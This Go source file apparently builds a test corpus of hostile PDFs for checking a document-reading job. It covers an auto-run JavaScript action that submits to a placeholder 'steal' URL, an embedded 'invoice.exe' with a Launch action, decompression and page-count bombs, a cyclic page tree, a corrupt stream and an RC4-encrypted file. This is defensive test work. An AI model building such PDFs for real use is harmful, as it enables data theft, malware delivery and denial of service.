package hostile

import (
	"bytes"
	"compress/zlib"
	"crypto/md5"
	"crypto/rc4"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
)

// pdfDoc writes a PDF object by object, with a correct cross-reference
// table, so that each hostile variant differs from a valid file in exactly
// the way it claims to.
type pdfDoc struct {
	objs    []string
	trailer string // extra trailer entries
}

// add appends an object and returns its number.
func (d *pdfDoc) add(body string) int {
	d.objs = append(d.objs, body)
	return len(d.objs)
}

// set replaces object n, for objects that refer to later ones.
func (d *pdfDoc) set(n int, body string) { d.objs[n-1] = body }

// stream returns a stream object's body; filter may be empty.
func stream(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func (d *pdfDoc) bytes() []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(d.objs))
	for i, body := range d.objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, body)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(d.objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(d.objs)+1, d.trailer, xref)
	return b.Bytes()
}

// textPage is the content stream of a page that shows lines of text.
func textPage(lines ...string) []byte {
	var b strings.Builder
	b.WriteString("BT /F1 24 Tf 72 720 Td 30 TL\n")
	for _, l := range lines {
		fmt.Fprintf(&b, "(%s) Tj T*\n", l)
	}
	b.WriteString("ET")
	return []byte(b.String())
}

// simplePDF is a valid one-page PDF with a text layer; extra catalog
// entries (JavaScript, attachments) are spliced into its catalog, and
// objects they need are added by more.
func simplePDF(mediaBox, catalogExtra string, more func(d *pdfDoc) string, lines ...string) []byte {
	d := &pdfDoc{}
	d.add("") // catalog, filled in below
	pages := d.add("")
	font := d.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	content := d.add(stream("", textPage(lines...)))
	page := d.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>", pages, mediaBox, font, content))
	d.set(pages, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", page))
	if more != nil {
		catalogExtra += " " + more(d)
	}
	d.set(1, fmt.Sprintf("<< /Type /Catalog /Pages %d 0 R %s >>", pages, catalogExtra))
	return d.bytes()
}

const letter = "[0 0 612 792]"

// InvoiceText is what the valid pages of the corpus say; a job that reads
// them returns it, and nothing a hostile file carries besides.
const InvoiceText = "INVOICE 2026-001"

func plainPDF() []byte { return simplePDF(letter, "", nil, InvoiceText) }

// Payload is text that hostile files carry where no reader should take it
// from (a script, an attachment): it must never appear in a job's output.
const Payload = "HOSTILE-PAYLOAD-7f3a"

func javascriptPDF() []byte {
	js := fmt.Sprintf("app.alert('%s'); this.submitForm('http://203.0.113.9/steal');", Payload)
	return simplePDF(letter, fmt.Sprintf("/OpenAction << /S /JavaScript /JS (%s) >> /AA << /WC << /S /JavaScript /JS (%s) >> >>", js, js), nil, InvoiceText)
}

func embeddedFilePDF() []byte {
	return simplePDF(letter, "", func(d *pdfDoc) string {
		file := d.add(stream("/Type /EmbeddedFile /Subtype /application#2Fx-msdownload", []byte("MZ"+Payload)))
		spec := d.add(fmt.Sprintf("<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F %d 0 R >> >>", file))
		launch := fmt.Sprintf("/OpenAction << /S /Launch /F %d 0 R >>", spec)
		return fmt.Sprintf("/Names << /EmbeddedFiles << /Names [(invoice.exe) %d 0 R] >> >> %s", spec, launch)
	}, InvoiceText)
}

// hugePagePDF has a page of 200 x 200 inches scaled by UserUnit, so that a
// renderer at 300 dpi would need billions of pixels.
func hugePagePDF() []byte {
	return simplePDF("[0 0 14400 14400] /UserUnit 75000", "", nil, InvoiceText)
}

// flateBombPDF's page content inflates to 64 MiB of no-op operators.
func flateBombPDF() []byte {
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestSpeed)
	chunk := bytes.Repeat([]byte("q Q "), 1<<16)
	for range 256 {
		_, _ = w.Write(chunk)
	}
	_ = w.Close()
	d := &pdfDoc{}
	d.add("<< /Type /Catalog /Pages 2 0 R >>")
	d.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	d.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>")
	d.add(stream("/Filter /FlateDecode", z.Bytes()))
	return d.bytes()
}

// pageCountBombPDF claims a million pages and lists the same page object
// 10,000 times.
func pageCountBombPDF() []byte {
	const n = 10_000
	d := &pdfDoc{}
	d.add("<< /Type /Catalog /Pages 2 0 R >>")
	kids := strings.Repeat("3 0 R ", n)
	d.add(fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count 1000000 >>", kids))
	d.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>")
	d.add(stream("", textPage(InvoiceText)))
	return d.bytes()
}

// pageTreeCyclePDF's page tree contains itself.
func pageTreeCyclePDF() []byte {
	d := &pdfDoc{}
	d.add("<< /Type /Catalog /Pages 2 0 R >>")
	d.add("<< /Type /Pages /Kids [3 0 R] /Count 2 >>")
	d.add("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>")
	return d.bytes()
}

// corruptStreamPDF says its content is deflated but holds random bytes.
func corruptStreamPDF() []byte {
	d := &pdfDoc{}
	d.add("<< /Type /Catalog /Pages 2 0 R >>")
	d.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	d.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>")
	d.add(stream("/Filter /FlateDecode", noise(4096, 7)))
	return d.bytes()
}

// The standard security handler, revision 2 (RC4, 40-bit): a real
// encrypted file that opens only with the user password.
var pdfPadding = []byte{
	0x28, 0xBF, 0x4E, 0x5E, 0x4E, 0x75, 0x8A, 0x41, 0x64, 0x00, 0x4E, 0x56, 0xFF, 0xFA, 0x01, 0x08,
	0x2E, 0x2E, 0x00, 0xB6, 0xD0, 0x68, 0x3E, 0x80, 0x2F, 0x0C, 0xA9, 0xFE, 0x64, 0x53, 0x69, 0x7A,
}

type rc4Key []byte

func padPassword(p string) []byte {
	return append([]byte(p), pdfPadding...)[:32]
}

func rc4Apply(key, data []byte) []byte {
	c, _ := rc4.NewCipher(key)
	out := make([]byte, len(data))
	c.XORKeyStream(out, data)
	return out
}

// objectKey is algorithm 1 of ISO 32000-1, section 7.6.2.
func (k rc4Key) object(num int) []byte {
	h := md5.New()
	h.Write(k)
	h.Write([]byte{byte(num), byte(num >> 8), byte(num >> 16), 0, 0})
	return h.Sum(nil)[:min(len(k)+5, 16)]
}

func encryptedPDF(userPassword string) []byte {
	const perms int32 = -44
	id := md5.Sum([]byte("hostile corpus"))
	ownerKey := md5.Sum(padPassword("owner-" + userPassword))
	o := rc4Apply(ownerKey[:5], padPassword(userPassword))
	h := md5.New()
	h.Write(padPassword(userPassword))
	h.Write(o)
	_ = binary.Write(h, binary.LittleEndian, perms)
	h.Write(id[:])
	key := rc4Key(h.Sum(nil)[:5])
	u := rc4Apply(key, pdfPadding)

	d := &pdfDoc{}
	d.add("<< /Type /Catalog /Pages 2 0 R >>")
	d.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	d.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>")
	d.add(stream("", rc4Apply(key.object(4), textPage(InvoiceText))))
	d.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	enc := d.add(fmt.Sprintf("<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>", hex.EncodeToString(o), hex.EncodeToString(u), perms))
	d.trailer = fmt.Sprintf("/Encrypt %d 0 R /ID [<%x> <%x>]", enc, id, id)
	return d.bytes()
}
